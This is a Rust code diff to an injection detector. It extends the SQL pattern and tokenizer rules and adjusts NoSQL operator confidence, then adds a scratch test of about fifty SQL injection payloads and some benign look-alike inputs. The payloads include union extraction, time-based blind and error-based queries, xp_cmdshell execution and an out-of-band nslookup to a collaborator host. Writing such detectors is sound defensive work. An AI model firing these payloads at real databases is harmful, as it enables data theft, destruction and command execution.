@@ -258,7 +258,7 @@ fn uncomment(text: &str, out: &mut Vec<(Confidence, &'static str, Range<usize>)>
 /// Whether the text may hold anything a value-mode rule looks for.
 static VALUE_TRIGGER: LazyLock<Option<BytesRegex>> = LazyLock::new(|| {
     BytesRegex::new(
-        r#"(?i-u)['"`;#]|--|/\*|\|\||\b(?:union|sleep|benchmark|waitfor|xp_[a-z]+|sp_oa[a-z]+|load_file|outfile|dumpfile|utl_[a-z]+|dbms_[a-z]+|pg_[a-z_]+|lo_import|lo_export|extractvalue|updatexml|randomblob|sys_eval|sys_exec|openrowset|opendatasource|information_schema|httpuritype)\b|\b(?:or|and|xor|having|by|limit)\s*[-(\d!@]|\b(?:or|and|xor)\s+(?:true|not|exists|ascii|substr\w*|mid|ord|if|iif|case|sleep|char|select)\b"#,
+        r#"(?i-u)['"`;#]|--|/\*|\|\||\b(?:union|sleep|benchmark|waitfor|xp_[a-z]+|sp_oa[a-z]+|load_file|outfile|dumpfile|utl_[a-z]+|dbms_[a-z]+|pg_[a-z_]+|lo_import|lo_export|extractvalue|updatexml|randomblob|sys_eval|sys_exec|openrowset|opendatasource|information_schema|httpuritype)\b|\b(?:or|and|xor|having|by|limit|like|rlike|regexp)\s*[-(\d!@]|\(\s*select\b|\b(?:or|and|xor)\s+(?:true|not|exists|ascii|substr\w*|mid|ord|if|iif|case|sleep|char|select)\b"#,
     )
     .ok()
 });
@@ -794,7 +794,7 @@ fn sqlish_after(t: &[Tok], i: usize) -> bool {
         return true;
     }
     // `X = Y` where either side is a call or a subquery: `1=(SELECT ...)`, `'a'=CHR(97)`, `user=0x61`.
-    let cmp_at = (k..(k + 3).min(t.len())).find(|&m| t[m].kind == Kind::Op && CMP.contains(&t[m].text.as_str()));
+    let cmp_at = (k..(k + 3).min(t.len())).find(|&m| (t[m].kind == Kind::Op && CMP.contains(&t[m].text.as_str())) || t[m].is_any(&["LIKE", "RLIKE", "REGEXP", "ILIKE"]));
     if let Some(m) = cmp_at {
         let left_ok = t[k].literal() || t[k].kind == Kind::Word || t[k].kind == Kind::Ident;
         let mut r = m + 1;
@@ -835,6 +835,11 @@ fn value_rules(text: &str, len: usize, context: Context, found: &mut Vec<(Confid
         let src = format!("{quote}a{text}{quote}");
         let toks = lex(&src, 2, len, &mysql);
         if toks.first().is_some_and(|t| t.kind == Kind::Str) {
+            // An unclosed `/*` right after the quote (`admin'/*`) stops the tokenizer.
+            let end = toks.first().map_or(0, |t| t.at.end);
+            if toks.len() == 1 && text.get(end..).is_some_and(|r| r.trim_start_matches([')', ' ']).starts_with("/*")) {
+                found.push((Confidence::High, "sql.comment-terminator", end.saturating_sub(1)..end + 2));
+            }
             break_out(&toks[1..], is_prose, found);
             if text.contains('`') {
                 continue;
@@ -960,7 +965,7 @@ fn bare_rules(t: &[Tok], found: &mut Vec<(Confidence, &'static str, Range<usize>
         } else if number && sqlish_after_sig(&sig, i + 1) {
             found.push((Confidence::High, "sql.boolean-blind", op.at.start..op.at.end));
         }
-    } else if op.is("AND") || op.is_op("&&") {
+    } else if op.is_any(&["AND", "RLIKE", "REGEXP", "LIKE"]) || op.is_op("&&") {
         if number && sqlish_after_sig(&sig, i + 1) {
             found.push((Confidence::High, "sql.boolean-blind", op.at.start..op.at.end));
         }
@@ -1295,9 +1300,18 @@ fn nosql_key(s: &Subject<'_>, out: &mut Vec<Hit>) {
     if !risky {
         return;
     }
+    // A database tool takes operators; a login takes none; any other tool
+    // (an HTTP call, a generic function) rarely sends the match-anything ones.
+    let database = ["mongo", "db", "find", "aggregate", "query", "search", "filter", "elastic", "es.", "strapi", "analytics", "report", "sql", "count", "index"]
+        .iter()
+        .any(|w| s.tool.contains(w));
+    // A generic wrapper (`function_call`, no tool) hides the real tool: no evidence either way.
+    let unknown = s.tool.is_empty() || s.tool.contains("function") || s.tool.contains("tool_call");
     let c = if auth_tool(s.tool) {
         Confidence::High
     } else if matches!(op.as_str(), "$where" | "$function") {
+        Confidence::Medium
+    } else if !database && !unknown && matches!(op.as_str(), "$ne" | "$gt" | "$regex" | "$exists" | "$nin" | "$expr" | "$nor") {
         Confidence::Medium
     } else {
         Confidence::Low
@@ -1681,5 +1695,110 @@ mod bounds {
             let _ = read_only(text);
             assert!(t.elapsed() < std::time::Duration::from_secs(2), "read_only on {} bytes took {:?}", text.len(), t.elapsed());
         }
+    }
+}
+#[cfg(test)]
+mod scratch {
+    use super::*;
+    #[test]
+    fn scratch() {
+        let attacks: &[(&str, &str)] = &[
+            ("username", "admin' or '1'='1'/*"),
+            ("username", "admin\" or \"1\"=\"1"),
+            ("username", "' or 1=1 or ''='"),
+            ("id", "1 or 1=1--"),
+            ("id", "1' or '1'='1"),
+            ("id", "1)) OR ((1=1"),
+            ("id", "1 AND 1=1"),
+            ("id", "-1' UNION SELECT 1,2,3-- -"),
+            ("id", "1' ORDER BY 1--+"),
+            ("id", "1 ORDER BY 10"),
+            ("search", "%' AND 1=0 UNION SELECT table_name FROM information_schema.tables WHERE '%'='"),
+            ("search", "' AND '1'='1"),
+            ("search", "test' AND 1=(SELECT COUNT(*) FROM users)--"),
+            ("search", "1' WAITFOR DELAY '00:00:05'--"),
+            ("search", "';WAITFOR DELAY '0:0:5'--"),
+            ("id", "1;SELECT pg_sleep(5)"),
+            ("id", "1 AND (SELECT 5 FROM (SELECT(SLEEP(5)))x)"),
+            ("name", "x' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--"),
+            ("name", "1' AND ROW(1,1)>(SELECT COUNT(*),CONCAT(CHAR(95),version(),FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x)--"),
+            ("user", "admin' AND substring(password,1,1)='a"),
+            ("user", "' OR username LIKE '%admin%"),
+            ("email", "x@y.com'; EXEC sp_executesql N'SELECT 1'--"),
+            ("id", "1 AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64"),
+            ("id", "1' AND 1=1 AND '1'='1"),
+            ("id", "' OR 1=1; --"),
+            ("q", "1' OR '1'='1' /*"),
+            ("q", "')) or true--"),
+            ("q", "\" or \"\"=\""),
+            ("q", "' or ''='"),
+            ("q", "'=' 'or'"),
+            ("q", "admin' #"),
+            ("q", "1 or sleep(5)#"),
+            ("q", "1) or pg_sleep(5)--"),
+            ("q", "' AnD SlEeP(5) ANd '1"),
+            ("q", "'+(SELECT 1 WHERE 1=1 AND SLEEP(5))+'"),
+            ("q", "1' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),1)--"),
+            ("q", "' union all select null,null,null,table_name from all_tables--"),
+            ("q", "1;copy (select '') to program 'nslookup x.burpcollaborator.net'"),
+            ("value", "' OR EXISTS(SELECT 1 FROM dual WHERE 1=1) AND '1'='1"),
+            ("value", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
+            ("value", "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
+            ("value", "admin'||'"),
+            ("value", "x' AND 'x'='x"),
+            ("input", "1' and 1=2 union select 1,2,group_concat(username,0x3a,password) from users-- -"),
+            ("data", "'; exec master..xp_cmdshell 'ping 10.10.1.2'--"),
+            ("filter", "status eq 'active' or 1 eq 1"),
+            ("term", "a' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),0x3a,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- -"),
+            ("username", "admin'/*"),
+            ("username", "' OR 'x'='x'#"),
+            ("id", "1 || 1=1"),
+            ("id", "1 or true"),
+            ("name", "Robert'); DROP TABLE Students;--"),
+            ("user_id", "1 UNION SELECT NULL, table_name FROM information_schema.tables"),
+        ];
+        let legit: &[(&str, &str)] = &[
+            ("name", "Mary-Kate O'Hara"),
+            ("search", "'The Godfather' or 'Goodfellas'"),
+            ("q", "cats AND dogs OR birds"),
+            ("q", "rock 'n' roll -- classics"),
+            ("search", "\"exact phrase\" or \"another\""),
+            ("id", "2024-06-01"),
+            ("sku", "A-100/B"),
+            ("message", "Let's meet at 5; I'll bring the docs -- John"),
+            ("title", "Don't Stop Me Now"),
+            ("address", "1 O'Connell St; Dublin 1"),
+            ("query", "title:\"don't\" AND year:>=2000"),
+            ("filter", "price >= 10 and price <= 100"),
+            ("q", "select the best option; update later"),
+            ("note", "I'd say 1 = 1 is trivially true; 'or' is a keyword"),
+            ("search", "what's new in SQL 2023: union, intersect"),
+            ("name", "Sinéad O'Connor"),
+            ("comment", "it's 50% off -- today only; don't miss"),
+            ("q", "1 or 2 bedroom apartments"),
+            ("keywords", "sleep(tracking) app"),
+            ("text", "The WHERE clause 1=1 trick is used by query builders."),
+        ];
+        for (f, a) in attacks {
+            let m = max(a, super::super::context_of(f, ""), f);
+            if m < Some(Confidence::Medium) {
+                eprintln!("MISS {f}: {a}");
+            }
+        }
+        for (f, a) in legit {
+            let h = hits(a, super::super::context_of(f, ""), f);
+            if h.iter().any(|h| h.confidence >= Confidence::Medium) {
+                eprintln!("FP {f}: {a} {h:?}");
+            }
+        }
+    }
+    fn hits(text: &str, context: Context, field: &str) -> Vec<Hit> {
+        let s = Subject { text, context, field, tool: "", decoded: false };
+        let mut out = Vec::new();
+        analyze(&s, &mut out);
+        out
+    }
+    fn max(text: &str, context: Context, field: &str) -> Option<Confidence> {
+        hits(text, context, field).iter().map(|h| h.confidence).max()
     }
 }
